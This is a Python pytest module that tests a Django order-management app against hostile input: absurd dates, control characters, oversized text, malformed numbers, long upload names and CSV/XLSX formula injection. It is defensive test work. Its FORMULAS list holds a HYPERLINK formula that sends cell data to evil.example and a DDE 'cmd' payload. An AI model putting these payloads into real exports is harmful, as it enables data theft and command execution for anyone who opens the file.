"""SEC-1: each defect of the hostile-input review (issue 6 §9), reproduced and refused."""
from __future__ import annotations

import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse

from orders.models import Delivery
from presales.models import DiscussionNote, Inquiry
from qsm.contacts.models import ContactEntry
from qsm.workflow.models import Attachment
from tests.builders.exports import xlsx_export
from tests.security.conftest import assert_everything_reads

OUT = ContactEntry.Direction.OUTBOUND


@pytest.mark.spec("SEC-1")
@pytest.mark.parametrize("when", ["0001-01-01T00:00", "1900-12-31T23:59", "9999-12-31T23:59"])
def test_a_year_one_date_is_a_field_error_on_the_pages_and_nothing_is_stored(world, when):
    staff = world.page_client(world.staff_user)
    sales = world.page_client(world.sales_user)
    line = world.order_production.lines.get()

    # when a communication, a meeting note and a shipment are entered with a date far out of range
    answers = [
        staff.post(reverse("presales:communication-add", args=[world.discussed.pk]),
                   {"channel": "phone", "direction": OUT, "summary": "电话沟通", "occurred_at": when}),
        staff.post(reverse("presales:discussion-note-add", args=[world.discussed.pk]),
                   {"body": "会议纪要", "meeting_at": when}),
        sales.post(reverse("orders:delivery-ship", args=[world.order_production.pk]),
                   {"carrier": "顺丰", "shipped_at": when, f"qty_{line.pk}": "1"}),
    ]

    # then each page shows the field's error and stores nothing
    for response, field in zip(answers, ["occurred_at", "meeting_at", "shipped_at"], strict=True):
        assert response.status_code == 400
        html = response.content.decode()
        assert re.search(rf'<input[^>]*name="{field}"[^>]*is-invalid|<input[^>]*is-invalid[^>]*name="{field}"', html)
        if not when.startswith("1900"):  # 1900-12-31 23:59 does not exist in Shanghai: Django says so
            assert "2000-01-01" in html
    assert not ContactEntry.objects.filter(inquiry=world.discussed).exists()
    assert not DiscussionNote.objects.exists()
    assert Delivery.objects.filter(order=world.order_production).count() == 0
    assert_everything_reads(world)


@pytest.mark.spec("SEC-1")
def test_the_api_refuses_the_same_dates(world):
    api = world.api_client(world.staff_user)
    for when in ["0001-01-01T00:00", "0001-01-01T00:00:00+08:00", "2101-01-01T00:00:00Z", "2999-01-01T00:00:00Z"]:
        response = api.post(f"/api/presales/inquiries/{world.discussed.pk}/communications/",
                            {"channel": "phone", "direction": OUT, "summary": "x", "occurred_at": when},
                            format="json")
        assert response.status_code == 400 and "occurred_at" in response.json(), when
    assert not ContactEntry.objects.filter(inquiry=world.discussed).exists()


@pytest.mark.spec("SEC-1")
def test_a_record_that_cannot_be_read_is_an_error_not_a_404(world, django_capture_on_commit_callbacks):
    # given a BC timestamp written past every check (as the old forms let through)
    with connection.cursor() as cursor:
        cursor.execute("UPDATE presales_inquiry SET received_at = '0001-01-01 00:00:00+08:05:43 BC' WHERE id = %s",
                       [world.inquiry.pk])
    client = world.page_client(world.staff_user)
    client.raise_request_exception = True
    # then the page does not pretend the record does not exist: the read error surfaces
    with pytest.raises(Exception) as info:
        client.get(world.inquiry.get_absolute_url())
    assert "Http404" not in type(info.value).__name__


@pytest.mark.spec("SEC-1")
@pytest.mark.parametrize("text", ["主题\x01", "a\x00b", "x" * 201, "第一行\n第二行"])
def test_a_control_character_or_an_overlong_subject_is_refused(world, text):
    api = world.api_client(world.staff_user)
    response = api.patch(f"/api/presales/inquiries/{world.inquiry.pk}/", {"subject": text}, format="json")
    assert response.status_code == 400 and "subject" in response.json()
    page = world.page_client(world.staff_user).post(reverse("presales:inquiry-create"), {
        "channel": "phone", "customer": str(world.customer.pk), "subject": text, "question": "q"})
    assert page.status_code == 400 and page.context["form"].errors["subject"]
    assert Inquiry.objects.count() == 2 and Inquiry.objects.get(pk=world.inquiry.pk).subject == world.inquiry.subject


@pytest.mark.spec("SEC-1")
def test_a_one_megabyte_comment_is_refused(world):
    api = world.api_client(world.sales_user)
    url = f"/api/orders/orders/{world.order_production.pk}/progress/"
    response = api.post(url, {"kind": "update", "channel": "phone", "text": "长" * 300_000}, format="json")
    assert response.status_code == 400 and "text" in response.json()
    # a body past the parser's limit does not reach the serializer at all
    assert api.post(url, {"kind": "update", "channel": "phone", "text": "长" * 1_000_000},
                    format="json").status_code == 400
    assert not world.order_production.progress_notes.exclude(pk=world.progress_note.pk).exists()


# --- numbers and ids ---------------------------------------------------------------------------


@pytest.mark.spec("SEC-1")
def test_superscript_digits_and_garbage_counts_are_never_a_server_error(world):
    staff = world.page_client(world.staff_user)
    sales = world.page_client(world.sales_user)
    line = world.order_production.lines.get()
    assert staff.post(reverse("notifications-read"), {"id": ["²", "1e999", "99999999999999999999"]}).status_code == 302
    assert staff.get(reverse("presales:inquiry-create"), {"customer": "²"}).status_code == 200
    assert sales.get(reverse("orders:order-create"), {"customer": "²"}).status_code == 200
    more = sales.post(reverse("orders:order-create"), {"customer": str(world.customer.pk), "_more_rows": "1",
                                                     "lines-TOTAL_FORMS": "abc", "lines-INITIAL_FORMS": "0"})
    assert more.status_code == 200
    for total in ("abc", "²", "99999999"):
        saved = sales.post(reverse("orders:order-create"), {"customer": str(world.customer.pk),
                                                            "lines-TOTAL_FORMS": total, "lines-INITIAL_FORMS": "0"})
        assert saved.status_code == 200
    ship = sales.post(reverse("orders:delivery-ship", args=[world.order_production.pk]), {f"qty_{line.pk}": "²"})
    assert ship.status_code == 400 and not Delivery.objects.filter(order=world.order_production).exists()
    commission = sales.post(reverse("orders:installation-commission", args=[world.order_installing.pk]),
                            {"site_work": "安装", "check_item_²": "x", "check_item_0": "空载", "m_name_١": "y"})
    assert commission.status_code in (200, 302, 409)
    api = world.api_client(world.sales_user)
    shipped = api.post(f"/api/orders/orders/{world.order_production.pk}/ship/", {"quantities": [{"order_line": "²", "quantity": "1"}]},
                       format="json")
    assert shipped.status_code == 400 and "quantities" in shipped.json()
    assert api.get(f"/api/orders/orders/{'²'}/").status_code == 404
    assert api.get("/api/presales/inquiries/", {"customer": "²"}).status_code == 400


# --- uploads -----------------------------------------------------------------------------------


@pytest.mark.spec("SEC-1")
def test_a_file_name_of_ninety_chinese_characters_is_stored_under_a_short_name(world):
    name = "质" * 90 + ".pdf"  # 274 bytes in UTF-8: past the file system's 255
    client = world.page_client(world.staff_user)
    response = client.post(reverse("presales:inquiry-attach", args=[world.inquiry.pk]),
                           {"file": SimpleUploadedFile(name, b"%PDF-1.4 test", content_type="application/pdf")})
    assert response.status_code == 302
    attachment = Attachment.objects.get()
    assert attachment.original_name == name
    assert len(attachment.file.name.rsplit("/", 1)[-1].encode()) < 20 and attachment.file.name.endswith(".pdf")
    download = client.get(reverse("presales:inquiry-attachment", args=[world.inquiry.pk, attachment.pk]))
    assert download.status_code == 200 and b"".join(download.streaming_content) == b"%PDF-1.4 test"


@pytest.mark.spec("SEC-1")
def test_a_control_character_in_a_file_name_does_not_reach_the_download_header(world):
    from qsm.workflow.services import attachment_add

    # Django's multipart parser already drops them; the service is the last line for every other caller
    upload = SimpleUploadedFile("报告\x01\n.pdf", b"%PDF-1.4 test", content_type="application/pdf")
    attachment = attachment_add(record=world.inquiry, upload=upload, actor=world.staff_user)
    assert attachment.original_name == "报告__.pdf"
    client = world.api_client(world.staff_user)
    download = client.get(f"/api/presales/inquiries/{world.inquiry.pk}/attachments/{attachment.pk}/download/")
    assert download.status_code == 200
    assert "\n" not in download["Content-Disposition"]


# --- exports (SEARCH-1) ------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)"]


@pytest.mark.spec("SEARCH-1", "SEC-1")
def test_exports_write_formula_like_text_as_text_in_both_formats(world):
    from openpyxl import load_workbook

    # given subjects stored before the forms refused anything, one per formula and one with a control character
    subjects = [*FORMULAS, "坏\x01字符\x1f"]
    for subject in subjects:
        Inquiry.objects.filter(pk=world.inquiry.pk).update(subject=subject)
        client = world.page_client(world.staff_user)
        # when the department exports its inquiries
        csv_response = client.get(reverse("presales:inquiry-export"))
        xlsx_response = xlsx_export(client, reverse("presales:inquiry-export"))  # the job's file
        # then both files are complete, and the text is text: shown as typed, never run
        assert csv_response.status_code == 200 and xlsx_response.status_code == 200
        rows = list(csv.reader(io.StringIO(b"".join(csv_response.streaming_content).decode("utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row]
        sheet = load_workbook(io.BytesIO(xlsx_response.content)).active
        xcells = [c for row in sheet.iter_rows(min_row=2) for c in row]
        if subject in FORMULAS:
            assert "'" + subject in cells and subject not in cells
            written = [c for c in xcells if c.value == subject]
            assert written and all(c.data_type == "s" and c.quotePrefix for c in written)
        else:
            assert "坏\ufffd字符\ufffd" in cells
            assert any(c.value == "坏\ufffd字符\ufffd" for c in xcells)
    # numbers stay numbers
    assert not any(isinstance(c.value, str) and c.value.startswith("'") for c in xcells)


@pytest.mark.spec("SEARCH-1", "SEC-1")
def test_the_api_export_is_formula_safe_too(world):
    from openpyxl import load_workbook

    Inquiry.objects.filter(pk=world.inquiry.pk).update(subject="=1+1", contact_name="@x\x02")
    api = world.api_client(world.staff_user)
    response = xlsx_export(api, "/api/presales/inquiries/export/")
    assert response.status_code == 200
    values = [c for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2) for c in row]
    assert any(c.value == "=1+1" and c.data_type == "s" for c in values)
    text = b"".join(api.get("/api/presales/inquiries/export/", {"format": "csv"}).streaming_content).decode()
    assert "'=1+1" in text
